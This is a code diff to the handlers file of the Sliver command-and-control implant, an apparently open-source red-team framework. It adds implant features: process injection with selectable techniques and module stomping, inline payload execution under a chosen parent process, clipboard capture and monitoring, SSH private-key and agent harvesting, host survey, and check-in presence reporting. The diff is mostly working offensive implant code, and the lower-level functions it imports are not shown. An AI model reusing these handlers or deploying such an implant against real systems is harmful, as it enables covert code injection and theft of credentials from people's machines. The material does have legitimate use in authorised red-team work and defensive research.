@@ -21,17 +21,21 @@ package handlers
 */
 
 import (
-	"fmt"
 	"net"
+	"time"
 
 	// {{if .Config.Debug}}
 	"log"
 	// {{end}}
 
+	"github.com/bishopfox/sliver/implant/sliver/clipboard"
 	"github.com/bishopfox/sliver/implant/sliver/netstat"
+	"github.com/bishopfox/sliver/implant/sliver/presence"
 	"github.com/bishopfox/sliver/implant/sliver/procdump"
 	"github.com/bishopfox/sliver/implant/sliver/ps"
 	"github.com/bishopfox/sliver/implant/sliver/shell/ssh"
+	"github.com/bishopfox/sliver/implant/sliver/sshkeys"
+	"github.com/bishopfox/sliver/implant/sliver/survey"
 	"github.com/bishopfox/sliver/implant/sliver/taskrunner"
 	"github.com/bishopfox/sliver/protobuf/commonpb"
 	"github.com/bishopfox/sliver/protobuf/sliverpb"
@@ -87,9 +91,7 @@ func dumpHandler(data []byte, resp RPCResponse) {
 	res, err := procdump.DumpProcess(procDumpReq.Pid)
 	dumpResp := &sliverpb.ProcessDump{Data: res.Data()}
 	if err != nil {
-		dumpResp.Response = &commonpb.Response{
-			Err: fmt.Sprintf("%v", err),
-		}
+		dumpResp.Response = sliverpb.ErrorResponse(err)
 	}
 	data, err = proto.Marshal(dumpResp)
 	resp(data, err)
@@ -109,32 +111,86 @@ func taskHandler(data []byte, resp RPCResponse) {
 	if task.Pid == 0 {
 		err = taskrunner.LocalTask(task.Data, task.RWXPages)
 	} else {
-		err = taskrunner.RemoteTask(int(task.Pid), task.Data, task.RWXPages)
+		err = taskrunner.RemoteTask(int(task.Pid), task.Data, task.RWXPages, injection(task.Injection))
 	}
 	resp([]byte{}, err)
 }
 
+// injection - The task's injection technique, the implant's default is used if it's empty
+func injection(req *sliverpb.Injection) taskrunner.Injection {
+	return taskrunner.Injection{
+		Technique:   req.GetTechnique(),
+		StompModule: req.GetStompModule(),
+	}
+}
+
 func sideloadHandler(data []byte, resp RPCResponse) {
 	sideloadReq := &sliverpb.SideloadReq{}
 	err := proto.Unmarshal(data, sideloadReq)
 	if err != nil {
 		return
 	}
-	result, err := taskrunner.Sideload(sideloadReq.GetProcessName(), sideloadReq.GetProcessArgs(), sideloadReq.GetPPid(), sideloadReq.GetData(), sideloadReq.GetArgs(), sideloadReq.Kill)
-	errStr := ""
-	if err != nil {
-		errStr = err.Error()
-	}
+	result, err := taskrunner.Sideload(sideloadReq.GetProcessName(), sideloadReq.GetProcessArgs(), sideloadReq.GetPPid(), sideloadReq.GetData(), sideloadReq.GetArgs(), sideloadReq.Kill, injection(sideloadReq.Injection))
 	sideloadResp := &sliverpb.Sideload{
-		Result: result,
-		Response: &commonpb.Response{
-			Err: errStr,
-		},
+		Result:   result,
+		Response: sliverpb.ErrorResponse(err),
 	}
 	data, err = proto.Marshal(sideloadResp)
 	resp(data, err)
 }
 
+func inlineExecuteHandler(data []byte, resp RPCResponse) {
+	inlineReq := &sliverpb.InlineExecuteReq{}
+	err := proto.Unmarshal(data, inlineReq)
+	if err != nil {
+		return
+	}
+	timeout := time.Duration(inlineReq.Timeout) * time.Second
+	result, err := taskrunner.InlineExecute(inlineReq.Data, inlineReq.InProcess, inlineReq.ProcessName,
+		inlineReq.ProcessArgs, inlineReq.PPid, timeout, injection(inlineReq.Injection))
+	inlineResp := &sliverpb.InlineExecute{Response: sliverpb.ErrorResponse(err)}
+	if result != nil {
+		inlineResp.Stdout = result.Stdout
+		inlineResp.Stderr = result.Stderr
+		inlineResp.ExitCode = result.ExitCode
+		inlineResp.TimedOut = result.TimedOut
+		inlineResp.Pid = result.Pid
+	}
+	data, err = proto.Marshal(inlineResp)
+	resp(data, err)
+}
+
+func clipboardHandler(data []byte, resp RPCResponse) {
+	clipboardReq := &sliverpb.ClipboardReq{}
+	err := proto.Unmarshal(data, clipboardReq)
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	clip := &sliverpb.Clipboard{Response: &commonpb.Response{}}
+	if 0 < clipboardReq.Duration {
+		duration := time.Duration(clipboardReq.Duration) * time.Second
+		interval := time.Duration(clipboardReq.Interval) * time.Millisecond
+		clip.Entries, err = clipboard.Monitor(duration, interval, clipboardReq.MaxSize)
+	} else {
+		var entry *sliverpb.ClipboardEntry
+		entry, err = clipboard.Get(clipboardReq.MaxSize)
+		if entry != nil {
+			clip.Entries = []*sliverpb.ClipboardEntry{entry}
+			if !entry.Binary {
+				clip.Data = string(entry.Data)
+			}
+		}
+	}
+	if err != nil {
+		clip.Response = sliverpb.ErrorResponse(err)
+	}
+	data, err = proto.Marshal(clip)
+	resp(data, err)
+}
+
 func ifconfigHandler(_ []byte, resp RPCResponse) {
 	interfaces := ifconfig()
 	// {{if .Config.Debug}}
@@ -172,6 +228,41 @@ func ifconfig() *sliverpb.Ifconfig {
 	return interfaces
 }
 
+func presenceHandler(data []byte, resp RPCResponse) {
+	presenceReq := &sliverpb.PresenceReq{}
+	err := proto.Unmarshal(data, presenceReq)
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	if presenceReq.SetCheckin {
+		presence.SetCheckin(presenceReq.Checkin)
+	}
+	report, err := presence.Report()
+	if err != nil {
+		report.Response = &commonpb.Response{Err: err.Error()}
+	}
+	data, err = proto.Marshal(report)
+	resp(data, err)
+}
+
+func surveyHandler(data []byte, resp RPCResponse) {
+	surveyReq := &sliverpb.SurveyReq{}
+	err := proto.Unmarshal(data, surveyReq)
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	report := survey.Run(surveyReq.ActiveC2)
+	report.Response = &commonpb.Response{}
+	data, err = proto.Marshal(report)
+	resp(data, err)
+}
+
 func netstatHandler(data []byte, resp RPCResponse) {
 	netstatReq := &sliverpb.NetstatReq{}
 	err := proto.Unmarshal(data, netstatReq)
@@ -306,8 +397,23 @@ func runSSHCommandHandler(data []byte, resp RPCResponse) {
 		StdErr:   stderr,
 	}
 	if err != nil {
-		commandResp.Response.Err = err.Error()
+		commandResp.Response = sliverpb.ErrorResponse(err)
 	}
 	data, err = proto.Marshal(commandResp)
 	resp(data, err)
 }
+
+func sshHarvestHandler(data []byte, resp RPCResponse) {
+	harvestReq := &sliverpb.SSHHarvestReq{}
+	err := proto.Unmarshal(data, harvestReq)
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	harvest := sshkeys.Harvest(harvestReq.User, harvestReq.Keys, harvestReq.Agents)
+	harvest.Response = &commonpb.Response{}
+	data, err = proto.Marshal(harvest)
+	resp(data, err)
+}